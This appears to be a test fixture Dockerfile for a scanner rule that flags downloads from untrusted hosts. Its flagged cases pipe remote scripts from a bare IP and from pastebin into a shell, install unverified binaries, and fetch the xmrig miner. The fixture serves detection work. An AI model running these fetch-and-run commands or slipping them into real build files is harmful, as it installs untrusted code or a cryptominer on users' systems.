# Fixture for docker-run-download-untrusted-host.
# RULEID: plain-http script from a bare IP piped into sh; an IP-literal tarball unpacked and made
#   executable; a plain-http binary saved, chmod +x over a line continuation; a paste host piped into
#   bash; xmrig fetched from GitHub releases.
# OK: https installer from a project domain piped into sh (the LOW rule's business); plain-http tarball
#   with a sha256sum check; apt over plain http; https release tarball unpacked.
FROM ubuntu:22.04
# ruleid: docker-run-download-untrusted-host
RUN curl -fsSL http://185.62.57.10/init.sh | sh
# ruleid: docker-run-download-untrusted-host
RUN curl -s https://203.0.113.7/d/tool.tar.gz -o /tmp/x.tgz && tar -xzf /tmp/x.tgz -C /usr/local/bin
# ruleid: docker-run-download-untrusted-host
RUN wget -q http://downloads.example-mirror.net/agent -O /usr/local/bin/agent \
    && chmod +x /usr/local/bin/agent
# ruleid: docker-run-download-untrusted-host
RUN curl -s https://pastebin.com/raw/Xy12AbCd | bash
# ruleid: docker-run-download-untrusted-host
RUN wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz
# ok: docker-run-download-untrusted-host
RUN curl -fsSL https://sh.rustup.rs | sh -s -- -y
# ok: docker-run-download-untrusted-host
RUN curl -fsSLo /tmp/t.tgz http://archive.example.org/t-1.2.tgz && echo "abc123  /tmp/t.tgz" | sha256sum -c - && tar -xzf /tmp/t.tgz -C /opt
# ok: docker-run-download-untrusted-host
RUN sed -i 's|http://archive.ubuntu.com|http://mirror.example.org|' /etc/apt/sources.list && apt-get update
# ok: docker-run-download-untrusted-host
RUN curl -fsSL https://nodejs.org/dist/v20.11.0/node-v20.11.0-linux-x64.tar.xz | tar -xJ -C /usr/local --strip-components=1
